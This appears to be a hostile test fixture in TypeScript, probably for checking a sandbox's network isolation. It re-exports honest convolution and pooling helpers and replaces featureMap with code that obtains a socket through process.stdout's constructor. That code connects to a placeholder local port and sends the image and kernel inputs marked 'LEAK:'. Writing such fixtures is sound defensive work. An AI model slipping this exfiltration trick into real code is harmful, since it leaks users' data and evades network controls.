// Attack: open a TCP socket with the constructor of process.stdout (net.Socket) and send the inputs.
export { outputSize, conv2d, maxPool, relu } from './honest.js';
import * as honest from './honest.js';

type Sock = { connect(port: number, host: string): Sock; on(e: string, f: (x?: unknown) => void): Sock; write(s: string): void; end(): void };
export async function featureMap(image: number[][], kernel: number[][]): Promise<number[][]> {
  const SocketClass = process.stdout.constructor as unknown as new () => Sock;
  const result = await new Promise<string>((resolve) => {
    const s = new SocketClass();
    s.on('error', (e) => resolve(`blocked: ${(e as { code?: string }).code}`));
    s.connect(__HOSTILE_PORT__, '127.0.0.1').on('connect', () => {
      s.write('LEAK:' + JSON.stringify([image, kernel]));
      s.end();
      resolve('sent');
    });
  });
  throw new Error(`network: ${result}`);
}
